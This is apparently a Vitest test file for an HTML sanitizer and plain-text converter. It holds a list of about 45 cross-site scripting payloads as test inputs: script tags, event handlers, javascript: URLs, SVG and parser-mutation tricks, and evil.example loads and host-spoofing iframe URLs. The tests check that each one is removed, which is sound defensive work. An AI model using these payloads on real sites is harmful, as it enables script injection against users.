import { describe, expect, it } from 'vitest'
import { decodeBasicEntities, richTextTags, sanitizeRichText, toPlainText } from './safe-html.ts'

const attacks: readonly (readonly [name: string, html: string])[] = [
  ['script', '<script>alert(1)</script>'],
  ['script in upper case', '<SCRIPT SRC=//evil.example></SCRIPT>'],
  ['script without end', '<script>alert(1)'],
  ['nested script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['event handler', '<img src="/a" onerror="alert(1)">'],
  ['event handler without quotes', '<img src=/a onerror=alert(1)>'],
  ['event handler with a slash', '<img/src="/a"/onerror=alert(1)>'],
  ['event handler on any tag', '<p onmouseover="alert(1)" ontoggle=alert(1)>x</p>'],
  ['svg', '<svg><script>alert(1)</script></svg>'],
  ['svg onload', '<svg/onload=alert(1)>'],
  ['svg animate', '<svg><animate onbegin=alert(1) attributeName=x></svg>'],
  ['svg style', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  [
    'math',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['textarea', '<textarea><img src=x onerror=alert(1)></textarea>'],
  ['xmp', '<xmp><img src=x onerror=alert(1)></xmp>'],
  ['comment', '<!--><img src=x onerror=alert(1)>-->'],
  ['conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['cdata', '<![CDATA[<script>alert(1)</script>]]>'],
  ['processing instruction', '<?xml-stylesheet href="javascript:alert(1)"?>'],
  ['style tag', '<style>@import "//evil.example"</style>'],
  ['style attribute', '<p style="background:url(//evil.example)">x</p>'],
  ['link', '<link rel="stylesheet" href="//evil.example">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=//evil.example">'],
  ['base', '<base href="//evil.example">'],
  [
    'form',
    '<form action="//evil.example"><input name="a"><button formaction="javascript:alert(1)">x</button></form>',
  ],
  ['object', '<object data="javascript:alert(1)"></object>'],
  ['embed', '<embed src="//evil.example/a.swf">'],
  ['audio', '<audio src=x onerror=alert(1)>'],
  ['video', '<video><source onerror="alert(1)"></video>'],
  ['details', '<details open ontoggle=alert(1)>x</details>'],
  ['link with a script', '<a href="javascript:alert(1)">x</a>'],
  ['link with an encoded script', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['link with data', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['picture with data', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['picture with a script', '<img src="javascript:alert(1)">'],
  ['srcset', '<img src="/a" srcset="javascript:alert(1) 2x">'],
  ['frame of a stranger', '<iframe src="https://evil.example"></iframe>'],
  ['frame with a document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  [
    'frame with a known host and a document',
    '<iframe src="https://www.youtube.com/embed/a" srcdoc="<script>alert(1)</script>"></iframe>',
  ],
  ['name clobbering', '<a id="location" name="body">x</a><img name="cookie" src="/a">'],
  ['xlink', '<a xlink:href="javascript:alert(1)">x</a>'],
  ['quote breaking', '<a title="&quot; onclick=alert(1) x=&quot;" href="/a">x</a>'],
  ['backtick', '<img src="/a" alt="`` onerror=alert(1)">'],
  ['null bytes', '<scr\0ipt>alert(1)</scr\0ipt><img src=x on\0error=alert(1)>'],
]

/** Tags and attributes that a parser sees in clean HTML, where every attribute is quoted. */
const parse = (html: string) =>
  Array.from(html.matchAll(/<([a-z0-9]+)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/g), ([, tag, rest]) => ({
    tag,
    attributes: Array.from((rest ?? '').matchAll(/\s([a-z-]+)(?:="([^"]*)")?/g), ([, name, value]) => [
      name,
      value,
    ]),
  }))

const allowedAttributes = new Set([
  'class',
  'href',
  'title',
  'target',
  'rel',
  'src',
  'alt',
  'width',
  'height',
  'loading',
  'allowfullscreen',
  'start',
  'scope',
  'colspan',
  'rowspan',
])

describe('sanitizeRichText', () => {
  it.each(attacks)('RTE-1 disarms %s', (_name, html) => {
    const clean = sanitizeRichText(`<p>Calm</p>${html}`)
    const tags = parse(clean)
    expect(clean.match(/</g)?.length).toBe(clean.match(/<\/?[a-z0-9]+[^<>]*>/g)?.length)
    for (const { tag, attributes } of tags) {
      expect(richTextTags).toContain(tag)
      for (const [name, value] of attributes) {
        expect(allowedAttributes).toContain(name)
        if (name === 'href' || name === 'src') expect(value).not.toMatch(/^\s*(?:javascript|data|vbscript)/i)
      }
    }
    expect(clean).toContain('<p>Calm</p>')
    expect(sanitizeRichText(clean)).toBe(clean)
  })

  it('RTE-1 keeps each tag of the documented list', () => {
    const empty = new Set(['br', 'hr'])
    for (const tag of richTextTags.filter((tag) => tag !== 'img' && tag !== 'iframe')) {
      const html = empty.has(tag) ? `<${tag} />` : `<${tag}>x</${tag}>`
      expect(sanitizeRichText(html)).toBe(html)
    }
  })

  it('RTE-1 keeps harmless attributes, and gives pictures an alternative text', () => {
    const html =
      '<ol start="3"><li>x</li></ol><table><tbody><tr><th scope="row" colspan="2">x</th><td rowspan="2">y</td></tr></tbody></table><abbr title="Doctor">Dr</abbr>'
    expect(sanitizeRichText(html)).toBe(html)
    expect(sanitizeRichText('<img src="/a.webp" width="40" height="30">')).toBe(
      '<img alt="" loading="lazy" width="40" height="30" src="/a.webp" />',
    )
  })

  it.each([1, 9])('RTE-2 keeps the class indent-%i', (level) => {
    expect(sanitizeRichText(`<p class="indent-${level} evil">x</p>`)).toBe(`<p class="indent-${level}">x</p>`)
  })

  it('RTE-1 a link into a new tab does not hand over this window', () => {
    expect(sanitizeRichText('<a href="/a" target="_blank">x</a>')).toBe(
      '<a href="/a" target="_blank" rel="noopener">x</a>',
    )
    expect(sanitizeRichText('<a href="/a" target="_top" rel="opener">x</a>')).toBe('<a href="/a">x</a>')
  })

  it.each([
    ['https://www.youtube-nocookie.com/embed/a', true],
    ['https://www.youtube.com/embed/a', true],
    ['https://player.vimeo.com/video/1', true],
    ['https://fast.wistia.net/embed/1', true],
    ['https://www.dailymotion.com/embed/1', true],
    ['https://shop.example/player', true],
    ['HTTPS://www.youtube.com/embed/a', false],
    ['http://www.youtube.com/embed/a', false],
    ['//www.youtube.com/embed/a', false],
    ['https://youtube.com.evil.example/', false],
    ['https://www.youtube.com.evil.example/', false],
    ['https://www.youtube.com@evil.example/', false],
    ['https://evil.example/?www.youtube.com', false],
    ['https://evil.example\\@www.youtube.com', false],
    ['https://other.shop.example/', false],
    ['/player', false],
    ['', false],
  ])('RTE-3 a frame from %j stays: %s', (src, stays) => {
    const clean = sanitizeRichText(`<iframe src="${src}" title="Film"></iframe>`, {
      ownHosts: ['shop.example'],
    })
    expect(clean.includes('<iframe')).toBe(stays)
  })

  it('SITE-5 the last word on addresses is the site’s', () => {
    const toUrl = (url: string) => `/base${url}`
    expect(sanitizeRichText('<a href="/a">x</a><img src="/b" alt="y">', { toUrl })).toBe(
      '<a href="/base/a">x</a><img alt="y" loading="lazy" src="/base/b" />',
    )
  })
})

describe('toPlainText', () => {
  it.each(attacks)('TXT-2 nothing of %s remains a tag', (_name, html) => {
    const text = toPlainText(`<p>Calm</p>${html}`)
    expect(text).toContain('Calm')
    expect(text).not.toMatch(/<\/?(?:p|img|a|script|iframe|svg|style)[\s/>]/i)
  })

  it.each([
    ['Calm', 'Calm'],
    ['  Calm  ', 'Calm'],
    ['<p>One</p><p>two</p>', 'One two'],
    ['One<br>two<br/>three', 'One two three'],
    ['<ul><li>One</li><li>two</li></ul>', 'One two'],
    ['Fish &amp; chips', 'Fish & chips'],
    ['Fish & chips', 'Fish & chips'],
    ['1 &lt; 2', '1 < 2'],
    ['&amp;lt;b&amp;gt;', '&lt;b&gt;'],
    ['caf&eacute;', 'café'],
    ['<b>bold', 'bold'],
    ['a < b', 'a < b'],
    ['', ''],
  ])('TXT-2 %j reads %j', (html, expected) => {
    expect(toPlainText(html)).toBe(expected)
  })
})

describe('decodeBasicEntities', () => {
  it.each([
    ['&lt;&gt;&quot;&amp;&#39;&#92;', `<>"&'\\`],
    ['&amp;lt;', '&lt;'],
    ['&amp;amp;', '&amp;'],
    ['&eacute;', '&eacute;'],
  ])('decodes %s once', (text, expected) => {
    expect(decodeBasicEntities(text)).toBe(expected)
  })
})
